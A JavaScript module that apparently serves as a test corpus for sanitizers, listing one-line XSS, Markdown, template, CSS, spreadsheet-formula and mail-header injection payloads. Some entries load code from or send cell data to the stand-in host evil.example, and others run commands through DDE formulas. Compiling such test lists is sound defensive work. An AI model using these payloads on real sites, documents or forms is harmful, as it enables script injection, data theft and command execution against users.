// More than 120 texts that have run as program somewhere, each on one line and at most 120 bytes: scripts, drawings, event handlers,
// broken attributes, style, Markdown, templates, look-alikes, spreadsheets, header lines.
'use strict';

const BOOM = 'alert(1)';

module.exports = [
	// Elements that run.
	`<script>${BOOM}</script>`, `<ScRiPt>${BOOM}</sCrIpT>`, `<script/x>${BOOM}</script>`, `<script\t>${BOOM}</script >`, `<scr<script>ipt>${BOOM}</scr</script>ipt>`,
	`</title><script>${BOOM}</script>`, `</textarea><script>${BOOM}</script>`, `</style><script>${BOOM}</script>`, `--><script>${BOOM}</script>`, `]]><script>${BOOM}</script>`,
	`<script src=//evil.example/x.js></script>`, `<script src="data:text/javascript,${BOOM}"></script>`, `<script type=module>${BOOM}</script>`, `<<script>${BOOM}//<</script>`, `<script>\u2028${BOOM}</script>`,
	// Handlers.
	`<img src=x onerror=${BOOM}>`, `<img/src=x/onerror=${BOOM}>`, `<img src=x onerror="${BOOM}"`, `<IMG SRC=x ONERROR=${BOOM}>`, `<img src=x:x onerror=${BOOM}//`,
	`<body onload=${BOOM}>`, `<input autofocus onfocus=${BOOM}>`, `<select autofocus onfocus=${BOOM}>`, `<details open ontoggle=${BOOM}>`, `<video src=x onerror=${BOOM}>`,
	`<audio src=x onerror=${BOOM}>`, `<video><source onerror=${BOOM}></video>`, `<marquee onstart=${BOOM}>`, `<div tabindex=1 autofocus onfocus=${BOOM}>x</div>`, `<a onmouseover=${BOOM}>x</a>`,
	`<object data=x onerror=${BOOM}>`, `<iframe onload=${BOOM}>`, `<style onload=${BOOM}></style>`, `<link rel=stylesheet href=x onerror=${BOOM}>`, `<x onanimationend=${BOOM} style="animation:a">`,
	// Drawings and formulas.
	`<svg onload=${BOOM}>`, `<svg/onload=${BOOM}>`, `<svg><script>${BOOM}</script></svg>`, `<svg><animate onbegin=${BOOM} attributeName=x dur=1s>`, `<svg><set onbegin=${BOOM} attributeName=x>`,
	`<svg><a><animate attributeName=href values=javascript:${BOOM} /><text>x</text></a>`, `<svg><foreignObject><body onload=${BOOM}></foreignObject>`, `<svg><use href="data:image/svg+xml,<svg id=x>#x"/>`,
	`<svg><style>@import'//evil.example'</style>`, `<svg><image href=x onerror=${BOOM}>`, `<svg><feImage href="//evil.example/i"/>`, `<math><mtext><table><mglyph><style><img src=x onerror=${BOOM}>`,
	`<math href="javascript:${BOOM}">x</math>`, `<svg><title><img src=x onerror=${BOOM}></title>`, `<svg><p><style><g title="</style><img src=x onerror=${BOOM}>">`,
	// Out of an attribute.
	`"><script>${BOOM}</script>`, `'><script>${BOOM}</script>`, `" onfocus=${BOOM} autofocus x="`, `' onfocus=${BOOM} autofocus x='`, `" onmouseover="${BOOM}`, `\`onfocus=${BOOM}//`, `"autofocus onfocus="${BOOM}`,
	`x" style="position:fixed;inset:0" x="`, `"><img src=x onerror=${BOOM}>`, `'-${BOOM}-'`, `";${BOOM};//`, `\\";${BOOM};//`, `/onload=${BOOM}//`, `"/><svg onload=${BOOM}>`, `x onerror=${BOOM}`,
	// Addresses.
	`javascript:${BOOM}`, `JaVaScRiPt:${BOOM}`, `data:text/html,<script>${BOOM}</script>`, `vbscript:msgbox(1)`, `//evil.example/x`, `<a href="javascript:${BOOM}">x</a>`, `<a href=" &#106;avascript:${BOOM}">x</a>`,
	`<form action=javascript:${BOOM}><button>x`, `<iframe src=javascript:${BOOM}>`, `<embed src=javascript:${BOOM}>`, `<base href=//evil.example/>`, `<meta http-equiv=refresh content=0;url=//evil.example>`,
	// Style.
	`<style>*{background:url(//evil.example/c)}</style>`, `<link rel=stylesheet href=//evil.example/c.css>`, `<div style="background:url(//evil.example/d)">x</div>`, `<p style="position:fixed;inset:0">x</p>`,
	`</style><style>@font-face{font-family:x;src:url(//evil.example/f)}</style>`, `<style>@import url(//evil.example/i.css);</style>`,
	// Markdown.
	`[x](javascript:${BOOM})`, `[x](JAVASCRIPT:${BOOM})`, `[x](<javascript:${BOOM}>)`, `![x](//evil.example/p.png)`, `![x](https://evil.example/p.png "y")`, `<javascript:${BOOM}>`, `[x](data:text/html,<script>${BOOM}</script>)`,
	`[x](https://example.org/"onmouseover="${BOOM})`, `[<img src=x onerror=${BOOM}>](https://example.org)`, `**<img src=x onerror=${BOOM}>**`, `[x](https://a.example@evil.example/)`, `[x]: javascript:${BOOM}`,
	// Templates.
	`{{constructor.constructor('${BOOM}')()}}`, `{{!message}}`, `{{> head}}`, `\${${BOOM}}`, `<%= ${BOOM} %>`, `#{${BOOM}}`, `%1 %2 %s %n %x`, `{{t landing.title entity_name}}`,
	// Look-alikes and bytes that other programs take for something else.
	`\uFF1Cscript\uFF1E${BOOM}\uFF1C/script\uFF1E`, `+ADw-script+AD4-${BOOM}+ADw-/script+AD4-`, `&lt;script&gt;${BOOM}&lt;/script&gt;`, `&#60;script&#62;${BOOM}&#60;/script&#62;`, `&#x3c;img src=x onerror=${BOOM}&#x3e;`,
	`%3Cscript%3E${BOOM}%3C/script%3E`, `\u02BAonfocus=${BOOM}`, `\u017Fcript ${BOOM}`, `<\u017Fvg onload=${BOOM}>`,
	// Spreadsheets and mail.
	`=HYPERLINK("https://evil.example/?"&A1,"x")`, `=cmd|'/C calc'!A0`, `+cmd|'/C calc'!A0`, `-2+3+cmd|'/C calc'!A0`, `@SUM(1+1)*cmd|'/C calc'!A0`, `=1+1;"=1+1",=1+1`, `";=1+1;"`, `","=1+1`, `\uFF1D1+1`,
	`x%0d%0aBcc: evil@example.org`, `=?utf-8?q?=0d=0aBcc:_evil@example.org?=`, `x <evil@example.org>, y`,
];
